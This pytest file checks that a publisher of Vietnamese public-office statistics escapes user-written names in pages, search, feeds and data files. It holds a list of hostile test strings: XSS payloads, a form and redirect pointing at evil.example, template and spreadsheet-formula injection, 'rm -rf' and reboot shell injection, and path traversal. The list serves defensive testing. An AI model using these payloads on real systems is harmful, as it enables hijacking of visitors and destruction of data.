"""Whatever people write comes out of the built site as exactly that text: in pages, titles, search, CSV and JSON.

The check would refuse most of these strings, so they are put behind it: straight into the tables, the settings, the
canonical files and the ledger. Control characters come out as spaces; a CSV cell is compared without its guard.
"""

import csv
import datetime as dt
import hashlib
import json
import re
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import html5lib
import openpyxl
import pytest
from lxml import etree, html

from publisher import release
from publisher.catalogue import Office, open_office
from publisher.catalogue.office import ZONE
from publisher.catalogue.tables import Entry
from publisher.catalogue.text import one_line
from publisher.ledger.lines import FIRST, Line, encode
from publisher.opendata import FORMULA, workbook
from publisher.pages.feeds import NO_XML
from tests import browser, reuse
from tests.offices import make_office

PERIOD = "2026-06"
MARK = "⁂"
"""Stands between strings that share one name; no string holds it."""

OWN = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=cccd>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><b>x</b>',
    "{: onmouseover=alert(1) }",
    "Phường | 9 | 99999",
    "{{7*7}} {{ config }}",
    "{% for x in range(9) %}x{% endfor %} {# hidden #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '--8<-- "mkdocs.yml"',
    ":smile: :material-account:",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "https://evil.example/ <https://evil.example/>",
    "# Tiêu đề\n## Tiêu đề hai\n\n---\n\n    mã",
    "- " * 500 + "x",
    "[" * 500,
    "<![",
    "]]>",
    "<![CDATA[x]]>",
    "<!--",
    "-->",
    "&amp; &lt;b&gt;",
    "&#x3C;b&#x3E; &#60;",
    "`mã` ``mã`` *đậm* _nghiêng_ ~~bỏ~~",
    "$(reboot) `reboot` ; rm -rf x",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "'=1+1",
    "＝1+1",
    "\u202eđảo\u202c \u200fphải\u200e",
    "không\u200brộng\u200d\ufeff",
    "👩‍👩‍👧 🏳️‍🌈 🇻🇳",
    "Hộp  hai   dấu cách",
    "tab\tvà\r\nxuống dòng\x0bvà\x0cnữa",
    "NUL\x00BEL\x07ESC\x1b[31mC1\x85\x9f và\u2028dòng\u2029đoạn",
    "../../etc/passwd",
    "null",
    "--- \ntitle: khác\n---",
    "á" * 2000,
    "\\n \\x3c \\u003cscript\\u003e",
    "Ｆｕｌｌ　ｗｉｄｔｈ",
)


@dataclass(frozen=True)
class Built:
    """A built office, and the strings that were put into it: unit i bears strings[i], wrote notes[i], and worked in
    field i // per_field."""

    office: Office
    strings: Sequence[str]
    notes: Sequence[str]
    fields: Sequence[str]
    per_field: int

    @property
    def site(self) -> Path:
        """The folder that citizens see."""
        return self.office.site / "current"

    def page(self, path: str) -> html.HtmlElement:
        """One page, parsed."""
        return read_page(self.site / path / "index.html")

    def units(self) -> list[tuple[str, Entry]]:
        """(what a unit was called, the unit) for every unit."""
        return [(string, self.office.units.entries[f"U{i:05d}"]) for i, string in enumerate(self.strings)]


def read_page(path: Path) -> html.HtmlElement:
    """An HTML file as a tree."""
    return html.document_fromstring(path.read_bytes(), parser=html.HTMLParser(encoding="utf-8"))


def read_fragment(text: str) -> html.HtmlElement:
    """A piece of HTML as a tree below one `<div>`."""
    page = f"<html><body><div>{text}</div></body></html>".encode()
    return html.document_fromstring(page, parser=html.HTMLParser(encoding="utf-8")).find(".//div")


def shown(text: str) -> str:
    """A text as it must come out: control characters and line ends are spaces, nothing else changes."""
    return "".join(" " if unicodedata.category(char) in ("Cc", "Zl", "Zp") else char for char in text)


def table_text(text: str) -> str:
    """A text as reference tables are read: composed, with plain line ends, without blanks at its ends."""
    return unicodedata.normalize("NFC", text).replace("\r\n", "\n").replace("\r", "\n").strip()


def unguard(cell: str) -> str:
    """A cell of a published CSV without the apostrophe that keeps spreadsheets from running it."""
    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA) else cell


def usable(strings: Iterable[str]) -> list[str]:
    """The different strings that can stand in a file of text at all, and are not blank."""
    found = dict.fromkeys(string for string in strings if table_text(string) and MARK not in string)
    return [string for string in found if string.encode("utf-8", "ignore").decode() == string]


def joined(strings: Iterable[str]) -> str:
    """Strings as one name for an office: a settings file holds no control characters."""
    return f" {MARK} ".join(shown(table_text(string)) for string in strings)


def make(root: Path, strings: Sequence[str], name: str, per_field: int = 1, **settings: Any) -> Built:
    """An office with a unit for each string, `per_field` strings in a field's name, and one row of dossiers a unit."""
    fields = [f" {MARK} ".join(strings[i : i + per_field]) for i in range(0, len(strings), per_field)]
    notes = [*strings[1:], strings[0]]
    make_office(
        root,
        units=[{"code": f"U{i:05d}", "name_vi": s, "name_en": s, "level": "commune"} for i, s in enumerate(strings)],
        fields=[{"code": f"F{i:05d}", "name_vi": s, "name_en": s} for i, s in enumerate(fields)],
        name={"vi": name, "en": name},
        short_name={"vi": name, "en": name},
        datasets={"procedures": {}},
        first_period=PERIOD,
        last_period=PERIOD,
        **settings,
    )
    office = open_office(root)
    rows = {
        f"U{i:05d}": {"field_code": f"F{i // per_field:05d}", "late_reason": notes[i], "note": strings[i]}
        for i in range(len(strings))
    }
    put_behind_the_check(office, rows)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(release, "check_office", lambda office, progress: [])
        release.build(office)
    return Built(office, strings, notes, fields, per_field)


def put_behind_the_check(office: Office, texts: dict[str, dict[str, str]]) -> None:
    """Write one canonical row for each unit, and a ledger that knows the files."""
    kind = office.kinds["procedures"]
    dates = office.period(kind, PERIOD)
    lines: list[Line] = []
    for unit, given in texts.items():
        row = {
            "unit_code": unit, "period": PERIOD, "period_from": dates.start.isoformat(),
            "period_to": dates.end.isoformat(), "basis": "month", "received_total": "46", "received_online": "12",
            "received_offline": "30", "carried_over": "4", "resolved_total": "40", "resolved_early": "30",
            "resolved_on_time": "9", "resolved_late": "1", "pending_total": "6", "pending_in_time": "6",
            "pending_late": "0", **given,
        }  # fmt: skip
        path = office.data_file("procedures", unit, PERIOD)
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("w", encoding="utf-8", newline="") as stream:
            writer = csv.DictWriter(stream, list(kind.columns), restval="", lineterminator="\n")
            writer.writeheader()
            writer.writerow(row)
        lines.append(
            Line(
                number=len(lines) + 1,
                previous=lines[-1].digest() if lines else FIRST,
                kind="procedures",
                unit=unit,
                period=PERIOD,
                revision=1,
                sha256=hashlib.sha256(path.read_bytes()).hexdigest(),
                accepted_at=dt.datetime(2026, 6, 16, 8, tzinfo=ZONE).isoformat(),
                reason="",
                role="clerk",
            )
        )
    office.ledger.write_bytes(encode(lines))


def foreign_strings(shared: Path) -> list[str]:
    """Every naughty string and every line of the payload lists."""
    found = json.loads((shared / "inputs/blns/blns.json").read_text(encoding="utf-8"))
    for path in sorted((shared / "inputs/payloads").rglob("*")):
        if path.is_file():
            found += path.read_text(encoding="utf-8", errors="ignore").splitlines()
    return usable(found)


@pytest.fixture(scope="module")
def own(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """The project's own strings, in every place, and all of them in the name of the office."""
    strings = usable(OWN)
    assert len(strings) == len(OWN)
    return make(tmp_path_factory.mktemp("own") / "office", ["Phường Bình Thường", *strings], joined(strings))


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """An office where every name is harmless: what its pages are made of is what the templates write."""
    return make(tmp_path_factory.mktemp("plain") / "office", ["Phường Bình Thường"], "Phường A")


@pytest.fixture(scope="module")
def foreign(shared: Path, tmp_path_factory: pytest.TempPathFactory) -> Built:
    """The strings of shared/inputs in units, fields and notes; Vietnamese pages only, the same lines write English."""
    strings = foreign_strings(shared)
    assert len(strings) > 900
    return make(
        tmp_path_factory.mktemp("foreign") / "office", ["Phường Bình Thường", *strings], "Phường A", 8, languages=["vi"]
    )


@pytest.fixture(scope="module")
def titles(shared: Path, tmp_path_factory: pytest.TempPathFactory) -> Built:
    """The strings of shared/inputs all in one office's name."""
    return make(tmp_path_factory.mktemp("titles") / "office", ["Phường Bình Thường"], joined(foreign_strings(shared)))


@pytest.fixture(params=["own", "foreign"])
def built(request: pytest.FixtureRequest) -> Built:
    """Both sets of strings in units, fields and notes."""
    found: Built = request.getfixturevalue(request.param)
    return found


@pytest.fixture(params=["own", "titles"])
def named(request: pytest.FixtureRequest) -> Built:
    """Both sets of strings in the office's name."""
    found: Built = request.getfixturevalue(request.param)
    return found


def languages(built: Built) -> list[str]:
    """The folders of the languages, as the beginnings of addresses."""
    return [("" if lang == "vi" else f"{lang}/") for lang in built.office.settings.languages]


def skeleton(page: html.HtmlElement) -> list[tuple[str, tuple[str, ...]]]:
    """The elements of a page in their order, each with the names of its attributes; comments count too."""
    return [(str(e.tag), tuple(sorted(e.attrib))) for e in page.iter()]


def test_a_units_name_is_its_pages_heading_title_and_description(built: Built) -> None:
    name = shown(table_text(built.office.settings.name.vi))
    for root in languages(built):
        for string, unit in built.units():
            page = built.page(f"{root}don-vi/{unit.slug}")
            wanted = shown(table_text(string))
            assert page.findtext(".//h1") == wanted
            assert page.xpath("string(//title)").strip() == f"{wanted} - {name}".strip()
            assert page.xpath("string(//meta[@name='description']/@content)").startswith(f"{wanted}: ")


def test_a_units_name_stands_in_lists_tables_and_sentences(built: Built) -> None:
    for root in languages(built):
        link = "don-vi/{}/"
        places = {
            "don-vi": "//ul[@class='ck-units']//a",
            f"thang/{PERIOD}": "//tbody//th//a",
            **({"": "//ul[@class='ck-units']//a"} if len(built.strings) <= 60 else {}),
        }
        for path, xpath in places.items():
            found = {}
            for part in [built.site / root / path, *(built.site / root / path).glob("phan-*")]:
                found |= {a.get("href").lstrip("./"): a.text_content() for a in built.page(str(part)).xpath(xpath)}
            for string, unit in built.units():
                assert found[link.format(unit.slug)] == shown(table_text(string))
        for string, unit in built.units():
            lead = built.page(f"{root}don-vi/{unit.slug}").xpath("string(//p[@class='ck-lead'])")
            assert shown(table_text(string)) in lead


def test_a_fields_name_is_its_pages_heading_and_stands_in_lists_and_tables(built: Built) -> None:
    entries = list(built.office.fields)
    assert [e.name.vi for e in entries] == [shown(table_text(name)) for name in built.fields]
    for root in languages(built):
        found = built.page(f"{root}linh-vuc").xpath("//ul[@class='ck-units']//a")
        links = {a.get("href"): a.text_content() for a in found}
        for entry in entries:
            wanted = shown(entry.name.vi)
            assert links[f"../linh-vuc/{entry.slug}/"] == wanted
            assert built.page(f"{root}linh-vuc/{entry.slug}").findtext(".//h1") == wanted
        for i, (_, unit) in enumerate(built.units()):
            heads = built.page(f"{root}don-vi/{unit.slug}").xpath("//tbody//th/text()")
            assert shown(entries[i // built.per_field].name.vi) in heads


def test_a_note_is_on_the_units_page(built: Built) -> None:
    for root in languages(built):
        for (string, unit), reason in zip(built.units(), built.notes, strict=True):
            found = built.page(f"{root}don-vi/{unit.slug}").xpath("//div[@class='ck-note']//dd")
            assert [dd.text_content() for dd in found] == [shown(reason), shown(string)]


def test_no_text_adds_or_removes_an_element_or_an_attribute(built: Built) -> None:
    for root in languages(built):
        (_, plain), *others = built.units()
        wanted = skeleton(built.page(f"{root}don-vi/{plain.slug}"))
        assert len(wanted) > 150
        for string, unit in others:
            assert skeleton(built.page(f"{root}don-vi/{unit.slug}")) == wanted, string
        fields = [skeleton(built.page(f"{root}linh-vuc/{field.slug}")) for field in built.office.fields]
        assert {tag for page in fields for tag in page} <= {*wanted, ("tfoot", ()), ("td", ("class", "colspan"))}


def scripts_of(built: Built) -> set[tuple[str, str]]:
    """(address, text) of every script of an office's pages, without the way up to the root and the release's name."""
    found = set()
    for path in built.site.rglob("*.html"):
        for element in read_page(path).iter("script"):
            if element.get("type") == "application/ld+json":
                continue  # data, which no browser runs; the next test reads it
            text = re.sub(r'"(?:\.{1,2}/?)+([^"]*)"', r'"\1"', element.text or "")
            address = re.sub(r"^[./]+", "", element.get("src") or "")
            found.add((re.sub(r"site\.[0-9a-f]{8}\.js$", "site.js", address), text))
    return found


def test_the_data_in_a_pages_head_is_text_and_ends_no_script(named: Built, built: Built) -> None:
    for office in (named, built):
        name = one_line(office.office.settings.name.vi)
        for path in ("so-lieu/procedures", f"thang/{PERIOD}"):
            (found,) = office.page(path).xpath("//head/script[@type='application/ld+json']")
            assert not {"<", ">", "&"} & set(found.text), path
            assert json.loads(found.text)["creator"]["name"] == name


def test_catalogues_feeds_and_files_of_units_hold_every_text_as_it_is(built: Built, named: Built) -> None:
    name = one_line(named.office.settings.name.vi)
    for path in ("du-lieu/catalog.jsonld", "data.json"):
        assert json.dumps(name, ensure_ascii=False)[1:-1] in (named.site / path).read_text(encoding="utf-8")
    for string, unit in built.units():
        wanted = shown(table_text(string))
        folder = built.site / "don-vi" / unit.slug
        assert json.loads((folder / "so-lieu.json").read_text(encoding="utf-8"))["unit"]["name"] == wanted
        feed = etree.fromstring((folder / "atom.xml").read_bytes())
        assert (feed.findtext("{*}title") or "").startswith(f"{NO_XML.sub(' ', wanted)}: "), string


def test_a_figure_for_other_pages_shows_the_text_and_its_snippet_says_the_same(built: Built) -> None:
    (_, plain), *others = built.units()
    wanted = skeleton(built.page(f"nhung/{plain.slug}/procedures"))
    for string, unit in others:
        page = built.page(f"nhung/{unit.slug}/procedures")
        title = f"{shown(table_text(string))}: Hồ sơ"
        assert (page.findtext(".//h1"), page.findtext(".//title")) == (title, title)
        assert skeleton(page) == wanted
        (code,) = built.page(f"don-vi/{unit.slug}").xpath("//p[@class='ck-snippet']/code")
        frame = read_fragment(code.text_content())
        assert [(child.tag, child.get("title")) for child in frame] == [("iframe", title)]
        assert set(frame[0].attrib) == {"src", "title", "width", "height", "loading"}


def test_pages_hold_no_script_and_no_address_but_their_own(built: Built, plain: Built) -> None:
    assert 3 <= len(scripts_of(plain)) <= 20
    assert scripts_of(built) <= scripts_of(plain)
    for path in built.site.rglob("*.html"):
        for element in read_page(path).iter():
            for name, value in element.attrib.items():
                assert not str(name).startswith("on"), path
                if name in ("href", "src", "action", "poster", "data"):
                    parts = urlsplit(value)
                    assert parts.scheme in ("", "https", "mailto"), value
                    assert parts.netloc in ("", "congkhai.example.vn", "creativecommons.org"), value


def test_the_name_of_the_office_comes_out_wherever_it_stands(named: Built) -> None:
    name = named.office.settings.name.vi
    for root in languages(named):
        home = named.page(root)
        assert home.xpath("string(//title)").endswith(f" - {name}")
        for place in (
            "//header//a[contains(@class, 'md-logo')]/@title",
            "//header//div[contains(@class, 'md-header__title')]",
            "//div[contains(@class, 'md-copyright')]",
            "//div[@class='ck-foot']",
            "//meta[@name='description']/@content",
        ):
            assert name in home.xpath(f"string({place})"), place


def test_the_name_of_the_office_adds_no_element(named: Built, plain: Built) -> None:
    # A unit among others is compared with them: its page has one line more than that of a unit alone.
    alone = len(named.strings) == len(plain.strings)
    unit = (f"don-vi/{named.units()[0][1].slug}",) if alone else ()
    for path in ("gioi-thieu", "en/phap-ly", "du-lieu", *unit):
        assert skeleton(named.page(path)) == skeleton(plain.page(path)), path


def test_the_search_index_holds_every_name_as_text(built: Built) -> None:
    """The theme puts titles and texts of the index into the page as HTML."""
    for root in languages(built):
        index = json.loads((built.site / root / "search/search_index.json").read_text(encoding="utf-8"))
        titles = {entry["location"]: entry["title"] for entry in index["docs"]}
        for string, unit in built.units():
            title = read_fragment(titles[f"don-vi/{unit.slug}/"])
            assert len(title) == 0
            assert title.text_content().split() == shown(table_text(string)).split()
        whole = read_fragment("".join(entry["text"] for entry in index["docs"]))
        tags = {str(element.tag) for element in whole.iter()}
        assert tags <= {"div", "p", "ul", "ol", "li", "code", "pre", "em", "strong", "a", "sub", "sup", "br"}, tags


def test_published_csv_files_hold_every_text_behind_its_guard(built: Built) -> None:
    folder = built.site / "du-lieu" / PERIOD
    rows = read_csv(folder / "procedures.csv")
    assert [unguard(row["unit_name"]) for row in rows] == [shown(table_text(s)) for s in built.strings]
    assert [unguard(row["note"]) for row in rows] == [shown(s) for s in built.strings]
    assert [unguard(row["late_reason"]) for row in rows] == [shown(s) for s in built.notes]
    for name, strings in (("units", built.strings), ("fields", built.fields)):
        found = read_csv(folder / f"{name}.csv")
        assert [unguard(row["name_vi"]) for row in found] == [shown(table_text(s)) for s in strings]
    for path in folder.glob("*.csv"):
        for row in read_csv(path):
            assert not any(cell.startswith(FORMULA) for cell in row.values())


def test_every_other_format_holds_the_texts_of_the_csv_file_and_no_formula(built: Built) -> None:
    for name in ("procedures", *(["../chi-so/procedures"] if len(built.strings) < 100 else [])):
        path = built.site / "du-lieu" / PERIOD / name
        wanted = read_csv(path.with_suffix(".csv"))
        for ending, read in ((".json", reuse.of_json), (".parquet", reuse.of_parquet), (".xlsx", reuse.of_workbook)):
            found = read(path.with_suffix(ending))
            for line, row in zip(wanted, found, strict=True):
                for column, text in line.items():
                    if ending == ".xlsx":
                        assert reuse.same(in_workbook(text), plain_escape(row[column])), (column, text)
                    else:
                        assert reuse.same(text, row[column]), (ending, column, text)


def in_workbook(text: str) -> str:
    """A text as far as a workbook can hold it."""
    return workbook.NOT_XML.sub("\ufffd", text[: workbook.CELL_LIMIT])


def plain_escape(value: Any) -> Any:
    """A text of a workbook as openpyxl gives it, which leaves the escape for a character as it stands."""
    return value.replace("_x005F_", "_") if isinstance(value, str) else value


def test_workbooks_and_descriptions_hold_the_name_of_the_office(named: Built) -> None:
    name = one_line(named.office.settings.name.vi)
    book = openpyxl.load_workbook(named.site / "du-lieu" / PERIOD / "procedures.xlsx")
    (said,) = [row for row in book.worksheets[0].iter_rows(values_only=True) if row[0] == "Cơ quan công bố"]
    assert plain_escape(said[1]) == in_workbook(name)


def read_csv(path: Path) -> list[dict[str, str]]:
    """A published file."""
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream, strict=True))


def test_the_data_package_holds_the_name_of_the_office(named: Built) -> None:
    package = json.loads((named.site / "du-lieu" / PERIOD / "datapackage.json").read_text(encoding="utf-8"))
    name = named.office.settings.name.vi
    assert package["title"] == f"{name}: Tháng 6/2026"
    assert package["contributors"][0]["title"] == name


def test_an_html5_parser_reads_the_same_text(own: Built) -> None:
    """lxml is fast, but browsers follow the standard that html5lib implements."""
    for string, unit in own.units():
        content = (own.site / "don-vi" / unit.slug / "index.html").read_bytes()
        page = html5lib.parse(content, namespaceHTMLElements=False, transport_encoding="utf-8")
        assert "".join(page.find(".//h1").itertext()) == shown(table_text(string))
        assert [e.tag.rpartition("}")[2] for e in page.iter() if isinstance(e.tag, str)] == [
            tag for tag, _ in skeleton(own.page(f"don-vi/{unit.slug}")) if "Comment" not in tag
        ]


def test_a_real_browser_shows_the_text_and_runs_nothing_of_it(own: Built) -> None:
    with (
        browser.served(own.site) as address,
        browser.chromium() as chromium,
        browser.visit(chromium, address) as visitor,
    ):
        page = visitor.open("don-vi/")
        names = page.locator("ul.ck-units a").evaluate_all("links => links.map(link => link.textContent)")
        assert set(names) == {shown(table_text(string)) for string in own.strings}
        for string, unit in own.units():
            if "<" in string:
                page = visitor.open(f"don-vi/{unit.slug}/")
                assert page.evaluate("document.querySelector('h1').textContent") == shown(table_text(string))
        page.goto(f"{address}?q=script")
        page.wait_for_selector(".md-search-result__item")
        found = page.locator(".md-search-result__item h1").evaluate_all("all => all.map(one => one.textContent)")
        assert any(title.startswith("<script>") for title in found), found
        assert visitor.foreign == []
        assert visitor.errors == []
